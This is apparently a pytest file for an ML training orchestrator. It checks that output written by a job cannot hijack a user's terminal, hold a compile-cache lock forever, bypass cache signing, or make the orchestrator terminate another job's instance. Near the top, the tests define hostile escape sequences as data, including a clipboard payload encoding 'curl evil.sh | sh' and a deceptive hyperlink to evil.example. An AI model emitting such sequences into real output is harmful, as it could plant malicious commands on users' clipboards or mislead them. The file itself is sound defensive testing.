"""What one job writes cannot act on a person's terminal, block another run's compiles, or pass for
the orchestrator's own records: each attack, tried, and refused."""

import json
import logging
import socket
import time

import pytest
from typer.testing import CliRunner

from tests.conftest import ON_S3, quickstart_data
from trnflow.cli.app import app
from trnflow.cli.console import plain
from trnflow.device.cache import LOCKED, CompileCache, entry_name
from trnflow.errors import FatalError
from trnflow.redact import Redactor, printable
from trnflow.specs import validate_spec

pytestmark = pytest.mark.unit

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
"""OSC 52: sets the reader's clipboard (here to `curl evil.sh | sh`) in terminals that allow it."""
LINK = "\x1b]8;;https://evil.example/\x1b\\release notes\x1b]8;;\x1b\\"
"""OSC 8: text that opens another address than it shows."""
HOSTILE = [CLIPBOARD, LINK, "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Kstep 40/40 passed", "\x9b31m", "\x1bP+q544e\x1b\\",
           "gate \u202edessap\u202c", "a\rpassed", "\x07\x08\x7f"]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_control_sequence_a_job_writes_survives_printable(text):
    shown = printable(text)
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\r" not in shown
    assert "\u202e" not in shown and "\u202c" not in shown
    assert "Y3VybCBldmlsLnNo" not in shown and "evil.example" not in shown  # the payloads are gone, not shown
    assert printable(shown) == shown


def test_printable_keeps_what_a_log_line_means():
    assert printable("step 10/40, loss 0.25\ttook 3 s\nnext") == "step 10/40, loss 0.25\ttook 3 s\nnext"
    assert printable("gate \u202edessap") == "gate \\u202edessap"  # the mark written out, so it reads as written
    assert printable(f"{LINK} read") == "release notes read"
    assert printable("naïve, 東京, 🙂") == "naïve, 東京, 🙂"
    assert plain("two\nlines\u202e") == "two\\x0alines\\u202e"  # one field stays one line


def test_a_jobs_output_reaches_the_task_log_without_control_sequences():
    from trnflow.tasks._jobs import relay

    task_log = logging.getLogger("trnflow.tests.relay")
    records: list[logging.LogRecord] = []
    kept = logging.Handler()
    kept.emit = records.append
    task_log.addHandler(kept)
    task_log.setLevel(logging.DEBUG)
    try:
        relay(task_log, Redactor([]), f"loading {CLIPBOARD}weights\n{LINK}\n\x1b[1A\x1b[2Kall cores passed\n")
    finally:
        task_log.removeHandler(kept)
    assert [r.getMessage() for r in records] == ["loading weights", "release notes", "all cores passed"]


def test_a_failure_message_a_job_wrote_is_classified_without_control_sequences():
    from trnflow.backends import JobInfo, JobState
    from trnflow.results import FailureReport
    from trnflow.tasks._jobs import classify

    report = FailureReport(type="DataError", retryable=False, message=f"bad row{CLIPBOARD} \u202eenil")
    error = classify(JobInfo("job-1", JobState.FAILED, failure=report))
    assert "\x1b" not in str(error) and "Y3Vyb" not in str(error) and "\\u202eenil" in str(error)


def _lock(root, key: str, record: dict) -> str:
    entry = entry_name(key)
    (root / entry).mkdir(parents=True, exist_ok=True)
    (root / entry / "model.lock").write_text(json.dumps(record) if isinstance(record, dict) else record)
    return entry


@pytest.mark.parametrize("since", [1e300, "1e999", "inf", "a year ahead"])
def test_a_lock_that_would_never_go_stale_is_garbled_and_the_next_compile_takes_it(tmp_path, since):
    """Another job writes a lock whose start is far in the future: read as a number it would hold the
    entry for good. It is a garbled record instead, named, and the next compile clears it."""
    since = time.time() + 86400 * 365 if since == "a year ahead" else since
    cache = CompileCache(str(tmp_path))
    entry = _lock(tmp_path, "MODULE_5+5", {"pid": 1, "host": "another-host", "since": since})
    with pytest.raises(FatalError, match=r"model\.lock: a garbled lock record"):
        cache.lock_owner(entry)
    assert cache.acquire_lock(entry) is True
    assert json.loads((tmp_path / entry / "model.lock").read_text())["host"] == socket.gethostname()


def test_a_lock_taken_a_moment_ahead_on_another_hosts_clock_is_held(tmp_path):
    cache = CompileCache(str(tmp_path))
    entry = _lock(tmp_path, "MODULE_6+6", {"pid": 1, "host": "another-host", "since": time.time() + 30})
    assert cache.lock_owner(entry) is not None and cache.state(entry) == LOCKED
    listed = CliRunner().invoke(app, ["cache", "ls", str(tmp_path)])
    assert listed.exit_code == 0, listed.output


# --- a shared compile cache is used only with a key that checks it --------------------------------

def _spec_file(make_spec, tmp_path, cache_url: str):
    import yaml

    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump(make_spec(gate={"reference": None}, compile={"cache_url": cache_url})
                                   .model_dump(mode="json")))
    return str(path)


def test_a_run_on_a_shared_cache_with_no_key_is_refused_before_its_first_job(make_spec, tmp_path, trnflow_home,
                                                                              monkeypatch):
    monkeypatch.delenv("TRNFLOW_CACHE_PUBLIC_KEY", raising=False)
    monkeypatch.delenv("TRNFLOW_CACHE_UNSIGNED", raising=False)
    spec = _spec_file(make_spec, tmp_path, "s3://shared-cache/neuron")
    result = CliRunner().invoke(app, ["run", spec])
    assert result.exit_code == 2, result.output
    said = " ".join(result.stderr.split())
    assert "compile.cache_url s3://shared-cache/neuron is shared, and nothing checks its entries" in said
    assert "Set TRNFLOW_CACHE_PUBLIC_KEY" in said and "TRNFLOW_CACHE_UNSIGNED=1" in said
    assert "Traceback" not in result.output and not list((trnflow_home / "jobs").glob("*"))


def test_a_job_opening_a_shared_cache_with_no_key_stops_and_the_opt_out_lets_it_through(make_spec, monkeypatch):
    """Whatever launched it, a job fails closed: the check is where every job opens its cache."""
    from trnflow.device import plans

    monkeypatch.delenv("TRNFLOW_CACHE_PUBLIC_KEY", raising=False)
    monkeypatch.delenv("TRNFLOW_CACHE_SIGNING_KEY", raising=False)
    monkeypatch.delenv("TRNFLOW_CACHE_UNSIGNED", raising=False)
    spec = make_spec(compile={"cache_url": "s3://shared-cache/neuron"})
    with pytest.raises(FatalError, match="is shared, and nothing checks its entries"):
        plans.job_cache(spec)
    monkeypatch.setenv("TRNFLOW_CACHE_UNSIGNED", "1")
    assert plans.job_cache(spec).url == "s3://shared-cache/neuron"
    monkeypatch.delenv("TRNFLOW_CACHE_UNSIGNED")
    monkeypatch.setenv("TRNFLOW_CACHE_PUBLIC_KEY", "ed25519:" + "C" * 43 + "=")
    assert plans.job_cache(spec).keys.checks
    assert plans.job_cache(make_spec()).url.startswith("file://")  # a folder of one's own needs no key


def test_a_signing_key_file_others_can_read_is_refused(tmp_path):
    from trnflow.device.signing import SIGNING_KEY_ENV, generate, keys_from

    pem = tmp_path / "cache.pem"
    generate(pem)
    assert keys_from({SIGNING_KEY_ENV: str(pem)}).signer is not None  # 0600, as keygen writes it
    pem.chmod(0o640)
    with pytest.raises(FatalError, match=r"can be read by other users \(mode 640\).*chmod 600"):
        keys_from({SIGNING_KEY_ENV: str(pem)})


# --- a job's report cannot make the orchestrator terminate another job's instances ---------------

@pytest.mark.slow  # a whole Batch deployment in moto: with the integration tests
def test_a_forged_bad_host_report_terminates_only_the_jobs_own_instance(in_process_aws, caplog,
                                                                       monkeypatch):
    """A single-node job's preflight exits 79 (BadHost). Its report names its own instance and
    another job's (whose id it could read in the staging bucket): Batch and ECS say which instance the
    attempt ran on, and only that one is terminated; the other keeps running, and the refusal is
    logged."""
    import boto3
    from moto.batch.models import batch_backends
    from moto.ecs.models import ecs_backends

    from trnflow.backends import JobRequest
    from trnflow.backends.batch import BatchBackend
    from trnflow.backends.cloud import cloud_target
    from trnflow.backends.contract import JobOutputs
    from trnflow.results import FailureReport
    from trnflow.settings import TrnflowSettings
    from trnflow.testing.mockcloud.instances import IMAGE_ID
    from trnflow.testing.mockcloud.provision import ACCOUNT, SETTINGS, provision

    outputs = provision(boto3.client)
    for name in SETTINGS:
        monkeypatch.setenv(f"TRNFLOW_{name}", outputs[name])
    ec2 = boto3.client("ec2")
    own, victim = (ec2.run_instances(ImageId=IMAGE_ID, MinCount=1, MaxCount=1, InstanceType="trn1.32xlarge")[
        "Instances"][0]["InstanceId"] for _ in range(2))
    spec = validate_spec(quickstart_data(**ON_S3, train={"checkpoint_url": "s3://acme-data/checkpoints"},
                                         gate={"reference": None}, compute={
                                             "backend": "batch", "instance_type": "trn1.32xlarge", "nodes": 1,
                                             "cores_per_node": 1, "spot": True, "share_identifier": "default",
                                             "fair_share": True}))
    backend = BatchBackend(cloud_target(TrnflowSettings(), "batch"))
    job_id = backend.submit(JobRequest(spec, "sanity", "hostile-run"))
    job = batch_backends[ACCOUNT]["us-east-1"]._jobs[job_id]  # as the service ran it: on `own`, exit 79
    joined = ecs_backends[ACCOUNT]["us-east-1"].register_container_instance(job.job_queue.environments[0].ecs_name, own)
    now = int(time.time() * 1000)
    job.status, job.attempts = "FAILED", [{"container": {"exitCode": 79, "containerInstanceArn":
                                                         joined.container_instance_arn},
                                           "startedAt": now - 5000, "stoppedAt": now, "statusReason": "exited"}]
    forged = FailureReport(type="BadHost", retryable=True, message="stuck memory bits", instances=[own, victim])
    backend.outputs(job_id).write(JobOutputs.node_failure(0), forged.model_dump_json().encode())
    with caplog.at_level(logging.WARNING, logger="trnflow.backends"):
        backend.describe(job_id)
    states = {i["InstanceId"]: i["State"]["Name"] for r in ec2.describe_instances(InstanceIds=[own, victim])[
        "Reservations"] for i in r["Instances"]}
    assert states == {own: "terminated", victim: "running"}
    said = " ".join(r.getMessage() for r in caplog.records)
    assert f"names {victim}, which attempt 1 did not run on (its instances: {own}); refused" in said


@pytest.mark.slow  # starts the fork server, which imports torch: with the integration tests
def test_the_fork_server_that_starts_every_local_job_does_not_hold_the_signing_key(monkeypatch, tmp_path):
    """The key's path reaches a compile job in its own request; the long-lived process that forks
    every job (and every job it forks without one) never has it."""
    from pathlib import Path

    from trnflow.backends.forkserver import ForkServer

    monkeypatch.setenv("TRNFLOW_CACHE_SIGNING_KEY", str(tmp_path / "cache.pem"))
    server = ForkServer()
    try:
        environ: list[bytes] = []
        for _ in range(300):  # read once the process has its own environment (during its exec, it reads empty)
            environ = [v for v in Path(f"/proc/{server._proc.pid}/environ").read_bytes().split(b"\0") if v]
            if environ:
                break
            time.sleep(0.1)
        assert not [v for v in environ if v.startswith(b"TRNFLOW_CACHE_SIGNING_KEY=")]
        assert b"PYTHONUNBUFFERED=1" in environ
    finally:
        server.stop()
